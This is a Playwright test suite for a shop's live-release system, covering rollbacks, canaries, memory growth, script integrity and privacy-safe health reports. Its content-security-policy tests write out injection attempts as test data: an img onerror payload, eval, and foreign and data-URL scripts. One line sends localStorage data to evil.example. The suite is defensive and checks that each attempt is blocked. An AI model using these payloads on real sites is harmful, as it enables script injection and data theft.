/** A tab that stays open while releases come and go: it follows them, keeps what the shopper typed, and does not grow. */

import { canaryInMap, type ReleaseManifest } from '@platform/releases';
import type { ReleaseVariant } from '@platform/releases/testing/release-variant';
import type { CDPSession, Page } from '@playwright/test';
import { type FaultProxy, openFaultProxy, passAMinute } from './fault-proxy';
import { isFullRun } from './full-run';
import { isMarkedDocument, loadsFinished, markDocument, navigate, waitForNewDocument } from './navigation';
import { test as base, expect } from './test';

/** With a guest's tab at the fault proxy. */
const test = base.extend({
  page: async ({ faultProxy, openTab }, use) => use((await openTab({ url: faultProxy.url })).page),
});

const homeSearch = '搜游戏、点卡、拼音首字母';

const expectServedBy = (page: Page, { manifest: { name, version } }: ReleaseVariant) =>
  expect(page.locator('html')).toHaveAttribute(`data-${name}`, version);

test.describe('an idle tab', () => {
  test('gets a rollback within a minute, and keeps session, language and what was typed elsewhere', async ({
    faultProxy,
    variant,
    demoToken,
    openTab,
  }) => {
    const [good, bad] = [await variant('catalog', 'sound', 'good'), await variant('catalog', 'sound', 'bad')];
    faultProxy.goLive(good.manifest);
    faultProxy.goLive(bad.manifest);
    const { page } = await openTab({ url: faultProxy.url, token: demoToken, language: 'en' });
    const company = page.getByRole('textbox').first();
    await page.clock.install();
    await page.goto('/business');
    await company.fill('Stardust Ltd');
    await navigate(page, '/home');
    await expectServedBy(page, bad);
    await markDocument(page);

    faultProxy.goLive(good.manifest);
    await passAMinute(page, faultProxy);
    await expectServedBy(page, good);
    expect(await isMarkedDocument(page)).toBe(true);
    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
    expect(await page.evaluate(() => localStorage.getItem('token'))).toBe(demoToken);
    await navigate(page, '/business');
    await expect(company).toHaveValue('Stardust Ltd');
  });

  test('takes another shell by a load, unless something typed would be lost', async ({
    faultProxy,
    manifests,
    variant,
    page,
  }) => {
    const shell = await variant('shell', 'comment', 'next');
    const company = page.getByRole('textbox').first();
    await page.clock.install();
    await page.goto('/business');
    await company.fill('unsent');
    await markDocument(page);
    faultProxy.goLive(shell.manifest);
    await passAMinute(page, faultProxy);
    await passAMinute(page, faultProxy);
    expect(await isMarkedDocument(page)).toBe(true);
    await expect(company).toHaveValue('unsent');

    // By a navigation; and without one where nothing is typed.
    await navigate(page, '/home');
    await waitForNewDocument(page);
    await expect(page.getByText(homeSearch)).toBeVisible();
    await markDocument(page);
    faultProxy.goLive(manifests.shell as ReleaseManifest);
    await passAMinute(page, faultProxy);
    await waitForNewDocument(page);
  });
});

const waysBack: Record<string, (page: Page) => Promise<unknown>> = {
  'the browser’s Back': (page) => page.goBack({ waitUntil: 'commit' }),
  'history.back()': (page) => page.evaluate(() => window.history.back()),
  'the arrow in the header': (page) => page.getByRole('banner').getByRole('button', { name: '返回' }).click(),
};
for (const [way, goBack] of Object.entries(waysBack))
  test(`${way} leads to the earlier page by a load when another shell is live, and back in the history`, async ({
    faultProxy,
    variant,
    page,
  }) => {
    const shell = await variant('shell', 'comment', 'next');
    await page.goto('/home');
    await page.locator('a[href="/goods/1"]').first().click();
    await expect(page).toHaveURL(/\/goods\/1$/);
    faultProxy.goLive(shell.manifest);
    const check = page.waitForResponse(
      async (response) =>
        response.url().includes('/releases/') && (await response.text()).includes(shell.manifest.version),
    );
    await page.locator('a[href^="/goods?"]').first().click();
    await expect(page).toHaveURL(/\/goods\?/);
    await (await check).finished();
    await loadsFinished(page);
    const entries = await page.evaluate(() => window.history.length);
    await markDocument(page);

    await goBack(page);
    await waitForNewDocument(page);
    await expect(page).toHaveURL(/\/goods\/1$/);
    await expect(page.locator(`script[src*="/r/shell/${shell.manifest.version}/"]`).first()).toBeAttached();
    expect(await page.evaluate(() => window.history.length)).toBe(entries);
    await goBack(page);
    await expect(page).toHaveURL(/\/home$/);
  });

const swaps = isFullRun ? 100 : 24;
const warmUpSwaps = isFullRun ? 20 : 8;
/** Bytes. A release of this remote has about 100 kB of source: releases that stayed in memory would exceed this. */
const maxHeapGrowth = isFullRun ? 4 * 1024 * 1024 : 1024 * 1024;

test(`${swaps} live changes of one remote leave no style, listener or node behind, and a bounded heap`, async ({
  faultProxy,
  variant,
  page,
}) => {
  await page.goto('/business');
  await expect(page.getByRole('textbox').first()).toBeVisible();
  await markDocument(page);
  const session = await page.context().newCDPSession(page);
  let early: PageSize = { heap: 0, listeners: 0, nodes: 0, sheets: 0, sheetsInForce: 0 };
  for (let swap = 1; swap <= swaps; swap += 1) {
    const { manifest } = await variant('content', 'sound', `swap ${swap}`);
    faultProxy.goLive(manifest);
    await navigate(page, swap % 2 ? '/article/privacy' : '/business');
    await page.waitForFunction((version) => document.documentElement.dataset.content === version, manifest.version, {
      polling: 50,
    });
    if (swap === warmUpSwaps) early = await sizeOf(session, page);
  }
  // Effects and idle work of the last navigations hold its objects for a while.
  await expect(async () => {
    const late = await sizeOf(session, page);
    expect(late.sheets).toBeLessThanOrEqual(early.sheets);
    expect(late.sheetsInForce).toBeLessThanOrEqual(early.sheetsInForce);
    expect(late.listeners).toBeLessThanOrEqual(early.listeners * 1.1);
    expect(late.nodes).toBeLessThanOrEqual(early.nodes * 1.1);
    expect(late.heap - early.heap).toBeLessThan(maxHeapGrowth);
  }).toPass({ timeout: 60_000 });
  expect(await isMarkedDocument(page)).toBe(true);
});

/** No work of the last navigation is left that the page has put off. */
const isIdle = (page: Page) =>
  page.evaluate(() => new Promise((idle) => requestIdleCallback(() => requestIdleCallback(idle))));

interface PageSize {
  /** Bytes, after a garbage collection. */
  heap: number;
  listeners: number;
  nodes: number;
  /** Style sheets of the remote. */
  sheets: number;
  sheetsInForce: number;
}

async function sizeOf(session: CDPSession, page: Page): Promise<PageSize> {
  await isIdle(page);
  await page.waitForFunction(
    () => document.querySelectorAll('link[rel="stylesheet"][href*="/r/content/"]').length <= 1,
  );
  await session.send('HeapProfiler.collectGarbage');
  await session.send('HeapProfiler.collectGarbage');
  const counters = await session.send('Memory.getDOMCounters');
  const { usedSize } = await session.send('Runtime.getHeapUsage');
  const [sheets = 0, sheetsInForce = 0] = await page.evaluate(() => {
    const links = [...document.querySelectorAll<HTMLLinkElement>('link[rel="stylesheet"][href*="/r/content/"]')];
    return [links.length, links.filter(({ disabled }) => !disabled).length];
  });
  return { heap: usedSize, listeners: counters.jsEventListeners, nodes: counters.nodes, sheets, sheetsInForce };
}

test.describe('a canary', () => {
  test('is chosen by the visitor’s number, the same in every tab and after every raise', async ({
    faultProxy,
    manifests: { catalog },
    variant,
    openTab,
  }) => {
    const live = catalog as ReleaseManifest;
    const canary = await variant('catalog', 'sound', 'canary');
    const setShare = (traffic: number) =>
      faultProxy.setMap(canaryInMap(faultProxy.map(), canary.manifest, live, traffic, { by: 'a test' }));
    const getsCanary = async (page: Page) => {
      await page.goto('/home');
      await expect(page.getByText(homeSearch)).toBeVisible();
      return page.evaluate(() => document.documentElement.dataset.catalog !== undefined);
    };
    setShare(10);
    const inside = await openTab({ url: faultProxy.url });
    const outside = await openTab({ url: faultProxy.url });
    await inside.context.addCookies([{ name: 'visitor', value: '9.99', url: faultProxy.url }]);
    await outside.context.addCookies([{ name: 'visitor', value: '10', url: faultProxy.url }]);
    for (let load = 0; load < 2; load += 1) {
      expect(await getsCanary(inside.page)).toBe(true);
      expect(await getsCanary(outside.page)).toBe(false);
    }
    expect(await getsCanary(await inside.context.newPage())).toBe(true);

    const asked: string[] = [];
    for (const { page } of [inside, outside]) {
      // Its last document may still fetch ahead.
      await page.goto('about:blank');
      page.on('request', (request) => asked.push(new URL(request.url()).pathname));
    }
    setShare(11);
    expect(await getsCanary(inside.page)).toBe(true);
    expect(await getsCanary(outside.page)).toBe(true);
    // The preloads agree with the choice.
    expect(asked).toContain(`/r/catalog/${canary.manifest.version}/${canary.manifest.entry}`);
    expect(asked.filter((path) => path.startsWith(`/r/catalog/${live.version}`))).toEqual([]);
  });
});

test.describe('integrity', () => {
  const pathOf = (manifest: ReleaseManifest, part: 'entry' | 'chunk' | 'style') => {
    const { js, css } = manifest.exposes['./business'] ?? { js: [], css: [] };
    const chunk = js.find((file) => file !== manifest.entry);
    return `/r/content/${manifest.version}/${{ entry: manifest.entry, chunk, style: css[0] }[part]}`;
  };
  const tamperedParts = (page: Page) =>
    page.evaluate(() => [
      document.documentElement.dataset.tampered ?? 'no script',
      getComputedStyle(document.documentElement).getPropertyValue('--tampered') || 'no style',
    ]);
  const expectReport = (proxy: FaultProxy, { manifest: { version } }: ReleaseVariant) =>
    expect
      .poll(() => proxy.reports.find((one) => one.version === version && one.kind === 'load'))
      .toMatchObject({ kind: 'load', recovered: true });

  for (const part of ['entry', 'chunk', 'style'] as const) {
    test(`a tampered ${part} never runs: the previous release serves, and it is reported`, async ({
      faultProxy,
      variant,
      openTab,
    }) => {
      const [good, live] = [await variant('content', 'sound', 'good'), await variant('content', 'sound', 'live')];
      const path = pathOf(live.manifest, part);
      faultProxy.goLive(good.manifest);
      faultProxy.goLive(live.manifest);
      faultProxy.breakPath(path, 'tampered');
      const { page } = await openTab({ url: faultProxy.url, expectedErrors: /integrity|content/ });
      await page.goto('/business');
      await expectServedBy(page, good);
      await expect(page.getByRole('textbox').first()).toBeVisible();
      expect(faultProxy.requests.filter((request) => request.startsWith(path)).length).toBeGreaterThan(0);
      expect(await tamperedParts(page)).toEqual(['no script', 'no style']);
      await expectReport(faultProxy, live);

      // Mended, the next visit gets it, though the browser's cache may hold the broken copy for good.
      faultProxy.breakPath(path, null);
      await navigate(page, '/home');
      await expect(page.getByText(homeSearch)).toBeVisible();
      await navigate(page, '/business');
      await expectServedBy(page, live);
      expect(await tamperedParts(page)).toEqual(['no script', 'no style']);
    });

    // By the same loader as the first: a push tries one of them.
    if (part !== 'chunk' && !isFullRun) continue;
    test(`a tampered ${part} of a release that goes live in an open tab never runs`, async ({
      faultProxy,
      variant,
      openTab,
    }) => {
      const [good, next] = [await variant('content', 'sound', 'good'), await variant('content', 'sound', 'next')];
      faultProxy.goLive(good.manifest);
      // Without prefetches, which load sound pages of the new release meanwhile.
      const { page } = await openTab({ url: faultProxy.url, saveData: true, expectedErrors: /integrity|content/ });
      await page.goto('/article/privacy');
      await expectServedBy(page, good);
      await markDocument(page);
      faultProxy.breakPath(pathOf(next.manifest, part), 'tampered');
      faultProxy.goLive(next.manifest);
      await page.evaluate(() => void delete document.documentElement.dataset.content);
      await navigate(page, '/business');
      await expectReport(faultProxy, next);
      await expectServedBy(page, good);
      await expect(page.getByRole('textbox').first()).toBeVisible();
      expect(await tamperedParts(page)).toEqual(['no script', 'no style']);
      expect(await isMarkedDocument(page)).toBe(true);
    });
  }
});

test('the content security policy of the document lets no other script run', async ({
  shop,
  manifests,
  faultProxy,
  openTab,
}) => {
  const { page } = await openTab({ url: faultProxy.url, expectedErrors: /./ });
  await page.goto('/home');
  await expect(page.getByText(homeSearch)).toBeVisible();
  const other = await openFaultProxy(shop.url, Object.values(manifests));
  await page.evaluate(async (elsewhere) => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const attempts: Record<string, () => unknown> = {
      'inline script': () => {
        const script = document.createElement('script');
        script.append('window.ran_inline = 1');
        document.head.append(script);
      },
      'foreign script': () => {
        const script = document.createElement('script');
        script.setAttribute('src', `${elsewhere}/r/x.js`);
        document.head.append(script);
      },
      'data address': () => {
        const script = document.createElement('script');
        script.src = 'data:text/javascript,window.ran_data=1';
        document.head.append(script);
      },
      // biome-ignore lint/security/noGlobalEval: that it does not run is what is tested
      eval: () => eval('window.ran_eval = 1'),
      'new Function': () => new Function('window.ran_function = 1')(),
      markup: () => {
        const holder = document.createElement('div');
        document.body.append(holder);
        holder.innerHTML = '<img src="x" onerror="window.ran_handler = 1">';
      },
      'timer text': () => (setTimeout as (code: string) => number)('window.ran_timer = 1'),
    };
    // Playwright's own evaluation may use eval; a task of the page may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {
        // Refused by Trusted Types or by the policy.
      }
    }
  }, other.url);
  await page.waitForFunction(() => (window as unknown as { violations: string[] }).violations.length >= 7);
  expect(await page.evaluate(() => Object.keys(window).filter((key) => key.startsWith('ran_')))).toEqual([]);
  expect(other.requests).toEqual([]);
  await other.close();
});

test('a request that the policy refuses never leaves, and is reported for the page on screen', async ({
  faultProxy,
  variant,
  openTab,
}) => {
  const good = await variant('content', 'sound', 'good');
  faultProxy.goLive(good.manifest);
  const { page } = await openTab({ url: faultProxy.url, expectedErrors: /evil\.example/ });
  const asked: string[] = [];
  page.on('requestfinished', (request) => asked.push(new URL(request.url()).host));
  await page.goto('/business');
  await expectServedBy(page, good);
  await page.evaluate(() => {
    new Image().src = `https://evil.example/?${localStorage.length}`;
  });
  const { version } = good.manifest;
  await expect
    .poll(() => faultProxy.reports.find(({ kind }) => kind === 'refused'))
    .toMatchObject({ name: 'content', version, page: './business' });
  expect(asked).not.toContain('evil.example');
  expect(faultProxy.reportBodies.join('\n')).not.toContain('evil');
});

test('health reports say which release failed or was slow, and nothing about the person', async ({
  faultProxy,
  variant,
  demoToken,
  openTab,
}) => {
  const [good, bad] = [await variant('content', 'sound', 'good'), await variant('content', 'render throws')];
  faultProxy.goLive(good.manifest);
  faultProxy.goLive(bad.manifest);
  const { page, context } = await openTab({ url: faultProxy.url, token: demoToken, expectedErrors: /the page throws/ });
  // In the sample of documents that report vitals.
  await context.addInitScript(() => void Object.assign(Math, { random: () => 0.01 }));
  const { version } = bad.manifest;
  // The vitals are observed from some idle time on, and final when the document is left.
  await expect(async () => {
    await page.goto('/business?mobile=13800000000#secret');
    await expectServedBy(page, good);
    await page.getByRole('textbox').first().fill('13800000000');
    await isIdle(page);
    await page.goto('/article/privacy');
    await expectServedBy(page, good);
    expect(faultProxy.reports).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ name: 'content', version, kind: 'visit', page: './business' }),
        expect.objectContaining({ name: 'content', version, kind: 'render', recovered: true }),
        expect.objectContaining({ name: 'content', version, kind: 'vital', metric: 'LCP' }),
      ]),
    );
  }).toPass();
  const bodies = faultProxy.reportBodies.join('\n');
  for (const secret of ['13800000000', demoToken.split(' ')[1] ?? demoToken, 'secret', 'http', 'mobile'])
    expect(bodies).not.toContain(secret);
  const known = ['name', 'version', 'kind', 'page', 'visit', 'recovered', 'metric', 'value', 'at'];
  expect(faultProxy.reports.flatMap((one) => Object.keys(one)).filter((key) => !known.includes(key))).toEqual([]);
  expect(faultProxy.reportBodies.length).toBeLessThan(faultProxy.reports.length);
});
